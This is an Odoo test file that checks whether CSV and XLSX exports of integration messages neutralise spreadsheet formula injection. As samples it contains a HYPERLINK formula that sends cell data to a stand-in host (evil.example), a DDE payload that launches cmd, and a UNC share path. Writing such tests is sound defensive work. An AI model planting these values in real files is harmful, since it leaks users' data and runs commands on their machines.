"""What a person exports and opens in a spreadsheet program is never run by it."""

import io
import json
import zipfile

from odoo import http
from odoo.tests import HttpCase, tagged

from .access_common import ADDON, AccessCase

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    '{=HYPERLINK("http://evil.example","Open")}',
    "external:\\\\evil.example\\share",
)


@tagged("post_install", "-at_install")
class TestExport(AccessCase, HttpCase):
    def setUp(self):
        super().setUp()
        user = self._new_user("exporter", f"{ADDON}.group_viewer,base.group_allow_export")
        user.password = user.login
        self.messages = self.env["integration.message"].create(
            [{"company_id": self.company.id, "file_name": name} for name in (*FORMULAS, "plain.835")]
        )
        self.env.flush_all()
        self.authenticate(user.login, user.login)

    def _export(self, kind, groupby=()):
        fields = [{"name": name, "label": name, "type": "char"} for name in ("file_name", "payload_size")]
        data = {
            "model": "integration.message",
            "fields": fields,
            "ids": self.messages.ids,
            "domain": [],
            "groupby": list(groupby),
            "import_compat": False,
            "context": {"allowed_company_ids": self.company.ids},
        }
        form = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        answer = self.url_open(f"/web/export/{kind}", data=form)
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def test_csv(self):
        text = self._export("csv").decode()
        for formula in FORMULAS:
            self.assertIn("\"'" + formula.replace('"', '""'), text)
        self.assertIn('"plain.835"', text)

    def test_xlsx(self):
        self._assert_plain(self._export("xlsx"))

    def test_xlsx_of_groups(self):
        """The titles of groups are values too."""
        self._assert_plain(self._export("xlsx", ["file_name"]))

    def _assert_plain(self, workbook):
        with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml").decode()
            strings = archive.read("xl/sharedStrings.xml").decode()
        self.assertNotIn("<f", sheet)
        self.assertNotIn("<hyperlink", sheet)
        self.assertIn("'=HYPERLINK", strings)
        self.assertIn("plain.835", strings)

    def test_other_models_are_exported_as_odoo_does(self):
        partner = self.env["res.partner"].create({"name": "=1+1"})
        self.assertEqual(partner.export_data(["name"])["datas"], [["=1+1"]])
